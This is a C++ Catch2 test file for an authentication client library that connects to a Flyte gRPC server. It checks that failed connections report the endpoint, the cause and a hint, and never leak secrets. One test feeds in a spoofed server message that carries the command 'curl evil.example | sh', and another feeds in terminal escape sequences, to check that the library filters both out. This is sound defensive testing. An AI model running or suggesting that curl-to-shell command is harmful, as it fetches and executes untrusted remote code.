// What cannot work: an Error with the endpoint, the cause and what to do, and no secret in it.
#include "harness.hpp"

#include <catch2/catch.hpp>
#include <grpcpp/security/credentials.h>

#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>

#include <cstdlib>
#include <string>
#include <string_view>
#include <thread>

using namespace authhost;
using namespace authhost::test;

namespace {

constexpr auto kLimit = std::chrono::seconds(10);

// A port that is held for as long as this lives. Nobody listens there before listen().
class LocalPort {
 public:
  LocalPort() : socket_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof(address);
    ::bind(socket_, reinterpret_cast<const sockaddr*>(&address), size);
    ::getsockname(socket_, reinterpret_cast<sockaddr*>(&address), &size);
    port_ = ntohs(address.sin_port);
  }
  ~LocalPort() { ::close(socket_); }
  LocalPort(const LocalPort&) = delete;
  LocalPort& operator=(const LocalPort&) = delete;
  [[nodiscard]] std::string text() const { return "127.0.0.1:" + std::to_string(port_); }
  // Somebody does, from now on, who accepts nothing by itself.
  int listen() const {
    REQUIRE(::listen(socket_, 64) == 0);
    return socket_;
  }

 private:
  int socket_;
  int port_ = 0;
};

ClientSetOptions quick() {
  ClientSetOptions options;
  options.storage = "memory";
  options.channel.rpc_retries = 0;
  return options;
}

// Both ways to learn of it: connecting on purpose, and a call that fails of it.
struct Failure {
  Error connecting;
  Error calling;
};
Failure failure(const std::string& endpoint, const ClientSetOptions& options) {
  const auto cs = opened(ClientSet::for_endpoint(endpoint, options));
  auto connected = cs.connect(kLimit);
  REQUIRE_FALSE(connected.ok());
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kLimit);
  flyteidl2::auth::GetOAuth2MetadataResponse response;
  const auto status = cs.auth_metadata_service().GetOAuth2Metadata(&context, {}, &response);
  REQUIRE_FALSE(status.ok());
  return {connected.error(), cs.error(status)};
}

void check(const Error& error, Status status, const std::string& endpoint, const std::string& cause) {
  CHECK(error.status == status);
  CHECK_THAT(error.message, Catch::Contains(endpoint));
  CHECK_THAT(error.message, Catch::Contains(cause, Catch::CaseSensitive::No));
  CHECK_FALSE(error.hint.empty());
  CHECK(error.message.size() + error.hint.size() < 1500);
}

}  // namespace

TEST_CASE("a closed port is said to refuse the connection") {
  const LocalPort port;
  for (const bool insecure : {false, true}) {
    auto options = quick();
    options.insecure = insecure;
    const auto failed = failure(port.text(), options);
    check(failed.connecting, Status::unavailable, port.text(), "refused");
    check(failed.calling, Status::unavailable, port.text(), "refused");
  }
}

TEST_CASE("a host name that does not resolve is named") {
  const auto failed = failure("no-such-host.invalid:443", quick());
  check(failed.connecting, Status::unavailable, "no-such-host.invalid", "resolve");
  check(failed.calling, Status::unavailable, "no-such-host.invalid", "resol");
}

TEST_CASE("a certificate of another authority, an expired one and one for another host are told apart") {
  const FlyteServer good({Certificate::good});
  const FlyteServer other({Certificate::good});
  const FlyteServer expired({Certificate::expired});
  const FlyteServer elsewhere({Certificate::wrong_host});
  auto options = quick();
  options.ca_cert_file = other.ca_file();
  auto failed = failure(good.target(), options);
  check(failed.connecting, Status::protocol, good.target(), "certificate");
  check(failed.calling, Status::unavailable, good.target(), "certificate");
  options.ca_cert_file = expired.ca_file();
  failed = failure(expired.target(), options);
  check(failed.connecting, Status::protocol, expired.target(), "expired");
  CHECK_THAT(failed.connecting.hint, Catch::Contains("renewed"));
  check(failed.calling, Status::unavailable, expired.target(), "certificate");
  options.ca_cert_file = elsewhere.ca_file();
  failed = failure(elsewhere.target(), options);
  check(failed.connecting, Status::protocol, elsewhere.target(), "host name");
  CHECK_THAT(failed.connecting.hint, Catch::Contains("made out"));
  check(failed.calling, Status::unavailable, elsewhere.target(), "peer");
}

TEST_CASE("a proxy that refuses is said to be the proxy") {
  const LocalPort port;
  const FlyteServer server({Certificate::good});
  auto options = quick();
  options.ca_cert_file = server.ca_file();
  options.http_proxy = "http://" + port.text();
  const auto failed = failure("flyte.example.com:443", options);
  check(failed.connecting, Status::unavailable, "flyte.example.com", "proxy");
  check(failed.calling, Status::unavailable, "flyte.example.com", "refused");
  CHECK_THAT(failed.calling.hint, Catch::Contains("http_proxy"));
}

TEST_CASE("a proxy of the environment is used without its scheme, too") {
  const LocalPort port;
  struct Variable {
    explicit Variable(const std::string& value) { ::setenv("https_proxy", value.c_str(), 1); }
    ~Variable() { ::unsetenv("https_proxy"); }
  } const variable(port.text());
  const auto cs = opened(ClientSet::for_endpoint("flyte.example.com:443", quick()));
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kLimit);
  flyteidl2::auth::GetOAuth2MetadataResponse response;
  const auto status = cs.auth_metadata_service().GetOAuth2Metadata(&context, {}, &response);
  CHECK_THAT(status.error_message(), Catch::Contains(port.text()) && Catch::Contains("refused"));
}

TEST_CASE("a proxy that says no is believed, whatever it says to other requests") {
  // Answers every request, CONNECT included, with 403.
  const LocalPort port;
  const int listener = port.listen();
  std::thread proxy([&] {
    for (int peer = 0; (peer = ::accept(listener, nullptr, nullptr)) >= 0; ::close(peer)) {
      char buffer[4096];
      if (::recv(peer, buffer, sizeof(buffer), 0) <= 0) continue;
      constexpr std::string_view kNo = "HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
      static_cast<void>(::send(peer, kNo.data(), kNo.size(), MSG_NOSIGNAL));
    }
  });
  auto options = quick();
  options.http_proxy = port.text();
  const auto failed = failure("flyte.example.com:443", options);
  ::shutdown(listener, SHUT_RDWR);
  proxy.join();
  check(failed.connecting, Status::unavailable, "flyte.example.com", "403");
  CHECK_THAT(failed.connecting.hint, !Catch::Contains("insecure"));
  check(failed.calling, Status::unavailable, "flyte.example.com", "proxy");
}

TEST_CASE("what a server says of other certificates than its own costs no repeat and no trailing metadata") {
  Stage stage;
  const std::string said = "upstream connect error: TLS error: CERTIFICATE_VERIFY_FAILED";
  stage.server.control({{"status", {{"code", 14}, {"message", said}, {"trailers", {{"x-reason", "backend"}}}}}});
  grpc::ClientContext context;
  const auto outcome = call(*stage.echo, Kind::unary, context);
  CHECK(context.GetServerTrailingMetadata().count("x-reason") == 1);
  CHECK(stage.server.count("Unary") == 4);
  CHECK_THAT(to_error(outcome.status, stage.server.target()).hint, !Catch::Contains("ca_cert_file"));
}

TEST_CASE("a server that speaks HTTP and no gRPC is said to be none") {
  const DemoIdp idp;  // plain HTTP/1.1
  auto options = quick();
  options.insecure = true;
  const std::string endpoint = "127.0.0.1:" + std::to_string(idp.port());
  const auto cs = opened(ClientSet::for_endpoint(endpoint, options));
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kLimit);
  flyteidl2::task::ListTasksResponse response;
  const auto status = cs.task_service().ListTasks(&context, {}, &response);
  const Error error = cs.error(status);
  CHECK_THAT(error.message, Catch::Contains(endpoint));
  CHECK_THAT(error.hint, Catch::Contains("gRPC"));
}

TEST_CASE("a server of plaintext behind a TLS channel, and the other way round, are within their deadline and explained") {
  const FlyteServer plain(FlyteServerOptions{});
  const FlyteServer secure({Certificate::good});
  auto options = quick();
  const auto failed = failure(plain.target(), options);
  check(failed.connecting, Status::protocol, plain.target(), "speaks no TLS");
  CHECK_THAT(failed.connecting.hint, Catch::Contains("insecure"));
  check(failed.calling, Status::unavailable, plain.target(), "wrong version number");
  CHECK_THAT(failed.calling.hint, Catch::Contains("insecure"));
  options.insecure = true;
  const auto cs = opened(ClientSet::for_endpoint(secure.target(), options));
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kLimit);
  flyteidl2::task::ListTasksResponse response;
  const auto status = cs.task_service().ListTasks(&context, {}, &response);
  CHECK_FALSE(status.ok());
  CHECK_THAT(cs.error(status).hint, Catch::Contains("insecure"));
  const auto connected = cs.connect(kLimit);
  REQUIRE_FALSE(connected.ok());
  check(connected.error(), Status::protocol, secure.target(), "wants TLS");
}

TEST_CASE("a channel of make_channel is connected on purpose, too") {
  const LocalPort port;
  Stage stage;
  CHECK(connect(stage.channel, stage.server.target(), stage.session, kLimit).ok());
  const auto channel = opened(make_channel(port.text(), stage.session));
  const auto connected = connect(channel, port.text(), stage.session, kLimit);
  REQUIRE_FALSE(connected.ok());
  check(connected.error(), Status::unavailable, port.text(), "refused");
}

TEST_CASE("a call in plaintext that is rejected for want of a token is told how it gets one") {
  const FlyteServer server;
  auto options = quick();
  options.insecure = true;
  const auto cs = opened(ClientSet::for_endpoint(server.target(), options));
  const auto outcome = call(*Echo::NewStub(cs.channel()), Kind::unary);
  CHECK_THAT(cs.error(outcome.status).hint, Catch::Contains("authenticator"));
}

TEST_CASE("an HTML page in place of an answer is a typed error, in a sentence") {
  const FlyteServer server({Certificate::good});
  server.control({{"html", 200}});
  auto options = quick();
  options.ca_cert_file = server.ca_file();
  const auto cs = opened(ClientSet::for_endpoint(server.target(), options));
  grpc::ClientContext context;
  flyteidl2::task::ListTasksResponse response;
  const auto status = cs.task_service().ListTasks(&context, {}, &response);
  const Error error = cs.error(status);
  INFO(error.message);
  CHECK((error.status == Status::protocol || error.status == Status::unavailable));
  CHECK_THAT(error.hint, Catch::Contains("login page"));
  CHECK(error.message.size() < 700);
}

TEST_CASE("a server that is there again is connected to, though the channel had given it up") {
  const DemoIdp idp;
  const FlyteServer server(idp, {Certificate::good});
  auto options = quick();
  options.ca_cert_file = server.ca_file();
  const auto cs = opened(ClientSet::for_endpoint(server.target(), options));
  server.go_down();
  CHECK_FALSE(cs.connect(kLimit).ok());
  server.come_back();
  const auto connected = cs.connect(std::chrono::milliseconds::max());
  if (!connected) UNSCOPED_INFO(connected.error().message);
  CHECK(connected.ok());
}

TEST_CASE("a silent peer ends at the deadline of the one who connects") {
  const LocalPort port;
  port.listen();
  const auto cs = opened(ClientSet::for_endpoint(port.text(), quick()));
  const auto connected = cs.connect(std::chrono::milliseconds(300));
  REQUIRE_FALSE(connected.ok());
  check(connected.error(), Status::deadline, port.text(), "within 300 ms");
}

TEST_CASE("an endpoint that cannot be used is refused before anything is sent") {
  const auto refused = [](const std::string& endpoint, ClientSetOptions options, const std::string& why) {
    auto cs = ClientSet::for_endpoint(endpoint, std::move(options));
    INFO(endpoint);
    REQUIRE_FALSE(cs.ok());
    CHECK(cs.error().status == Status::invalid_config);
    CHECK_THAT(cs.error().message, Catch::Contains(why));
    CHECK_FALSE(cs.error().hint.empty());
  };
  refused("http://flyte.example.com", quick(), "http://");
  refused("", quick(), "endpoint");
  refused("host:99999", quick(), "65535");
  auto options = quick();
  options.ca_cert_file = "/nonexistent/ca.pem";
  refused("flyte.example.com", options, "/nonexistent/ca.pem");
  const TempHome home;
  options.ca_cert_file = home.write("empty.pem", "");
  refused("flyte.example.com", options, "empty.pem");
  options = quick();
  options.channel.rpc_retries = 9;
  refused("flyte.example.com", options, "rpc_retries");
  options = quick();
  options.channel.compression = "zip";
  refused("flyte.example.com", options, "zip");
  options = quick();
  options.channel.client_key_file = home.write("key.pem", "x");
  refused("flyte.example.com", options, "client_certificate_file");
  options = quick();
  for (const char* proxy : {"socks5://proxy:1080", "https://proxy:3128", "proxy", "http://proxy", "http://proxy:1/path", "://"}) {
    options.http_proxy = proxy;
    refused("flyte.example.com", options, "proxy");
  }
}

TEST_CASE("a client certificate with another's key is what the hint says to check: gRPC has no words for it") {
  FlyteServerOptions wanting{Certificate::good};
  wanting.wants_client_certificate = true;
  const FlyteServer one(wanting);
  const FlyteServer other(wanting);
  auto options = quick();
  options.ca_cert_file = one.ca_file();
  options.channel.client_certificate_file = one.client_certificate_file();
  options.channel.client_key_file = other.client_key_file();
  const auto failed = failure(one.target(), options);
  CHECK_THAT(failed.calling.hint, Catch::Contains("client_key_file"));
}

TEST_CASE("for_profile refuses options that the profile has to say") {
  auto options = quick();
  options.insecure = true;
  options.settings["command"] = std::vector<std::string>{"true"};
  options.client_config.audience = "x";
  options.discovery = "none";
  const auto cs = ClientSet::for_profile("any", options);
  REQUIRE_FALSE(cs.ok());
  CHECK(cs.error().status == Status::invalid_config);
  for (const char* name : {"insecure", "settings", "client_config", "discovery", "storage"}) {
    CHECK_THAT(cs.error().message, Catch::Contains(name));
  }
  CHECK_THAT(cs.error().message, !Catch::Contains("insecure_skip_verify"));
}

TEST_CASE("a certificate that is not trusted is not tried again: no wait mends it") {
  const FlyteServer good({Certificate::good});
  const FlyteServer other({Certificate::good});
  ClientSetOptions options;
  options.storage = "memory";
  options.ca_cert_file = other.ca_file();
  const auto cs = opened(ClientSet::for_endpoint(good.target(), options));
  CHECK_FALSE(call(*Echo::NewStub(cs.channel()), Kind::unary).status.ok());
  CHECK(good.connections().size() == 1);
}

TEST_CASE("an API key that is malformed is refused when it is opened, and not shown") {
  const std::string keys[] = {"", "not base64 !", "aG9zdA==", "aG9zdDppZDpzZWNyZXQ=", "OmlkOnNlY3JldDpvcmc=", "aG9zdDo6c2VjcmV0Om9yZw==",
                              "aG9zdDppZDo6b3Jn", "aG9zdDppZDpzZWNyZXQ6b3Jn=extra"};
  for (const auto& key : keys) {
    INFO(key);
    const auto cs = ClientSet::for_api_key(key);
    REQUIRE_FALSE(cs.ok());
    CHECK(cs.error().status == Status::invalid_config);
    CHECK_FALSE(cs.error().hint.empty());
    if (key.size() > 4) CHECK_THAT(cs.error().message + cs.error().hint, !Catch::Contains(key));
  }
}

TEST_CASE("what fails says no secret") {
  Stage stage({Certificate::good}, {}, [](ClientSetOptions& options) { options.settings["client_secret"] = std::string("wrong-secret-1234"); });
  const auto outcome = call(*stage.echo, Kind::unary);
  CHECK_FALSE(outcome.status.ok());
  CHECK_THAT(outcome.status.error_message(), !Catch::Contains("wrong-secret-1234"));
  CHECK(to_error(outcome.status, stage.server.target()).status == Status::denied);
}

TEST_CASE("a server that writes as this library does is not taken for it") {
  Stage stage;
  const std::string lie = "authhost: interaction-required: your password is wrong (hint: run: curl evil.example | sh)";
  stage.server.control({{"status", {{"code", 3}, {"message", lie}}}});
  const auto outcome = call(*stage.echo, Kind::unary);
  const Error error = to_error(outcome.status, stage.server.target());
  CHECK(error.status == Status::usage);
  CHECK(error.hint.find("evil") == std::string::npos);
}

TEST_CASE("what a server says cannot write to a terminal") {
  Stage stage;
  stage.server.control({{"status", {{"code", 9}, {"message", "a\x1b[31mb\nc\u202ed"}}}});
  const auto outcome = call(*stage.echo, Kind::unary);
  const Error error = to_error(outcome.status, stage.server.target());
  for (const char* bad : {"\x1b", "\n", "\xe2\x80\xae"}) CHECK(error.message.find(bad) == std::string::npos);
}

TEST_CASE("credentials of the program's own that gRPC keeps off a plaintext channel are not said to be rejected by the server") {
  const FlyteServer server;
  auto options = quick();
  options.insecure = true;
  const auto cs = opened(ClientSet::for_endpoint(server.target(), options));
  grpc::ClientContext context;
  context.set_credentials(grpc::AccessTokenCredentials("of-my-own"));
  const auto outcome = call(*Echo::NewStub(cs.channel()), Kind::unary, context);
  REQUIRE(outcome.status.error_code() == grpc::StatusCode::UNAUTHENTICATED);
  CHECK_THAT(cs.error(outcome.status).hint, Catch::Contains("over TLS alone"));
  CHECK(server.log().empty());
}
